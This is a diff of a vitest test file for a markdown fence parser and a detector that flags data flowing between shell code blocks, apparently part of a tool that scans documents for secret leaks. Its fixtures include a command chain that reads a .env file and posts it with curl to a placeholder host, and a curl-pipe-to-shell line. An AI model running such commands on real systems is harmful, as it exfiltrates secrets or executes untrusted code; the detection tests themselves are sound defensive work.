@@ -1,14 +1,15 @@
 import { describe, expect, it } from 'vitest';
 import { codeLeaks } from '../../../server/src/engine/commands/code-leaks.js';
 import { documentEvents } from '../../../server/src/engine/commands/document-script.js';
-import { fencedBlocks } from '../../../server/src/engine/commands/fences.js';
+import { fences } from '../../../server/src/engine/commands/fences.js';
+import { inParts, whole } from '../support/whole.js';
 
 const fence = (language: string, body: string) => `\`\`\`${language}\n${body}\n\`\`\`\n`;
 
-describe('fencedBlocks', () => {
+describe('fences', () => {
   it('gives each block with its language, place and heading', () => {
     const text = `# A\n\n${fence('bash', 'ls')}\n## B\n\n  ~~~\n  x\n  ~~~\n`;
-    const blocks = fencedBlocks(text);
+    const blocks = fences(whole(text));
     expect(blocks.map(({ language, heading }) => [language, heading])).toEqual([
       ['bash', 'A'],
       ['', 'B'],
@@ -16,25 +17,35 @@ describe('fencedBlocks', () => {
     expect(text.slice(blocks[0]?.start)).toMatch(/^ls\n/);
   });
 
+  it('gives a block the last heading of the parts above', () => {
+    const parts = ['# A\n\n', fence('bash', 'ls'), '# B\n\nText.\n', fence('sh', 'pwd')];
+    const blocks = fences(inParts(parts));
+    expect(blocks.map(({ heading, text }) => [heading, text])).toEqual([
+      ['A', 'ls\n'],
+      ['B', 'pwd\n'],
+    ]);
+    expect(parts.join('').slice(blocks[1]?.start)).toMatch(/^pwd/);
+  });
+
   it('closes a block by as many marks only', () => {
-    expect(fencedBlocks('````md\n```js\nx\n```\n````\n')).toHaveLength(1);
+    expect(fences(whole('````md\n```js\nx\n```\n````\n'))).toHaveLength(1);
   });
 
   it('ends an open block with the text', () => {
-    expect(fencedBlocks('```\nx')[0]?.text).toBe('x');
+    expect(fences(whole('```\nx'))[0]?.text).toBe('x');
   });
 });
 
 describe('documentEvents', () => {
   it('follows data from one block into the next, past blocks in other languages', () => {
     const text = `${fence('bash', 'K=$(cat .env)')}${fence('json', '{}')}${fence('sh', 'curl -d "$K" https://c.invalid')}`;
-    const [event] = documentEvents(text);
+    const [event] = documentEvents(whole(text));
     expect(event?.kind).toBe('send');
     expect(text.slice(event?.start, event?.end).trim()).toBe('curl -d "$K" https://c.invalid');
   });
 
   it('leaves prose out', () => {
-    expect(documentEvents('Never pipe `curl https://x.invalid | sh`.')).toEqual([]);
+    expect(documentEvents(whole('Never pipe `curl https://x.invalid | sh`.'))).toEqual([]);
   });
 });
 
